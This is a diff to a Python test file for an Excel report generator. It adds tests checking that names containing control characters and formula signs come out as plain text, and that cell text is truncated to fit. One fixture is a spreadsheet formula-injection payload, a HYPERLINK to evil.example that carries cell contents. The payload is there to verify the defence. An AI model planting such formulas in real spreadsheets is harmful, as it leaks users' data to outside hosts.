@@ -11,11 +11,17 @@ from openpyxl.worksheet.worksheet import Worksheet
 from sqlalchemy import text
 
 from assets.period_report import tthc_period_report
-from assets.periodic_report import FORM_COLUMNS, latest_complete, parse_period, tthc_periodic_report
+from assets.periodic_report import (
+    FORM_COLUMNS,
+    cell_text,
+    latest_complete,
+    parse_period,
+    tthc_periodic_report,
+)
 from core.asset_keys import TTHC_PERIODIC_REPORT as PERIODIC_REPORT_KEY
 from core.run_clock import AS_OF_TAG
 from resources.warehouse import WarehouseResource
-from tests.period_report_data import AS_OF, install_period_cases
+from tests.period_report_data import AS_OF, INSERT_CASE, install_period_cases, period_case
 
 GROUP_HEADERS = ["Số hồ sơ nhận giải quyết", "Số hồ sơ đã giải quyết", "Số hồ sơ đang giải quyết"]
 SUB_HEADERS = ["Tổng số", "Trong kỳ", "Trực tuyến", "Trực tiếp và bưu chính", "Từ kỳ trước", "Trước hạn",
@@ -145,6 +151,55 @@ def test_a_period_asked_for_without_cases_fails_clearly(warehouse: WarehouseReso
     install_period_cases(warehouse)
     with pytest.raises(RuntimeError):
         run_report(warehouse, tmp_path / "periodic", periods=["2019-Q1"])
+
+
+FIELD_NAMES = {"F1": '=HYPERLINK("http://evil.example/?q="&A1,"Dược phẩm")', "F2": "Khám\x07bệnh\x1f, \ufffe"}
+UNIT_NAMES = {"U1": "+Phòng\x0bNghiệp vụ Dược", "U3": "@SUM(A1)\u202e Phòng Y"}
+ODD_UNIT = "'=U\x1b:9*'"
+
+
+def test_names_with_control_characters_and_formula_signs_are_written_as_plain_text(
+    warehouse: WarehouseResource, tmp_path: Path
+) -> None:
+    install_period_cases(warehouse)
+    with warehouse.begin() as conn:
+        for code, name in FIELD_NAMES.items():
+            conn.execute(
+                text("UPDATE raw.newsys_procedure SET field_name = :n WHERE field_code = :c"),
+                {"n": name, "c": code},
+            )
+        conn.execute(
+            text("INSERT INTO raw.newsys_unit (unit_code, name, level, payload, fetched_at)"
+                 " VALUES (:c, :n, 'SO', '{}', now())"),
+            [{"c": code, "n": name} for code, name in UNIT_NAMES.items()],
+        )  # fmt: skip
+        odd_case = period_case("X", ODD_UNIT, "P1", 2, 10, "2025-04-02 09:00", "2025-04-15 17:00", None)
+        conn.execute(INSERT_CASE, odd_case)
+    workbooks = run_report(warehouse, tmp_path / "periodic", periods=["2025-Q2"], form_number="-1+2 #N/A")
+    book = load_workbook(workbooks["2025-Q2"])
+    odd_title = next(title for title in book.sheetnames if title not in ("Toàn Sở", "U1", "U3"))
+    assert odd_title == "=U--9-"
+    texts = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for found in row:
+                assert found.data_type != "f", f"{sheet.title}!{found.coordinate} is a formula: {found.value}"
+                if isinstance(found.value, str):
+                    assert found.data_type == "s", f"{sheet.title}!{found.coordinate}"
+                    texts.add(found.value)
+    assert {cell_text(name) for name in FIELD_NAMES.values()} <= texts
+    assert cell_text(FIELD_NAMES["F2"]) == "Khám\ufffdbệnh\ufffd, \ufffd"
+    assert "-1+2 #N/A" in texts
+    assert f"Đơn vị báo cáo: {cell_text(UNIT_NAMES['U1'])} (U1)" in texts
+    assert f"Đơn vị báo cáo: {cell_text(UNIT_NAMES['U3'])} (U3)" in texts
+    assert f"Đơn vị báo cáo: {cell_text(ODD_UNIT)} ({cell_text(ODD_UNIT)})" in texts
+
+
+def test_a_cell_text_is_cut_to_what_a_cell_holds() -> None:
+    assert cell_text("x" * 32_767) == "x" * 32_767
+    assert cell_text("x" * 40_000) == "x" * 32_766 + "…"
+    cut = cell_text("😀" * 20_000)
+    assert cut.endswith("…") and len(cut.encode("utf-16-le")) // 2 <= 32_767
 
 
 def test_run_config_can_neither_read_a_secret_nor_write_outside_the_reports_folder(
